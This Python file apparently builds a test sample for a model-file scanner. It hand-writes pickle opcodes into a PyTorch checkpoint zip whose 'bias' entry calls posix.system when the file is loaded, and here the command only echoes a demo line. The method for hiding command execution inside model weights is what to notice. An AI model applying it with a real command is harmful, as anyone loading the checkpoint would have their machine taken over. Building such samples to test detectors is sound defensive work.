"""A PyTorch checkpoint that runs a shell command when it is unpickled. Its opcodes are written by hand; nothing here runs them."""

from __future__ import annotations

import struct
import zipfile

HOSTILE_CALL = "posix.system"
COMMAND = "echo weightguard demo: this line would have been your shell"


def hostile_pickle() -> bytes:
    """{"weight": a tensor of 4 x 4 floats, "bias": posix.system(COMMAND)} in protocol 2."""
    storage = b"(" + _text("storage") + b"ctorch\nFloatStorage\n" + _text("0") + _text("cpu") + b"K\x10tQ"
    tensor = (
        b"ctorch._utils\n_rebuild_tensor_v2\n("
        + storage
        + b"K\x00K\x04K\x04\x86K\x04K\x01\x86\x89ccollections\nOrderedDict\n)RtR"
    )
    call = b"cposix\nsystem\n" + _text(COMMAND) + b"\x85R"
    return b"\x80\x02}(" + _text("weight") + tensor + _text("bias") + call + b"u."


def write_hostile(path: str) -> None:
    """A zip archive as torch.save lays it out, around `hostile_pickle`."""
    members = {"data.pkl": hostile_pickle(), "byteorder": b"little", "data/0": bytes(64), "version": b"3\n"}
    with zipfile.ZipFile(path, "w") as archive:  # stored, as torch.save does
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(f"pytorch_model/{name}"), content)


def _text(text: str) -> bytes:
    """The opcode BINUNICODE."""
    return b"X" + struct.pack("<I", len(text.encode())) + text.encode()
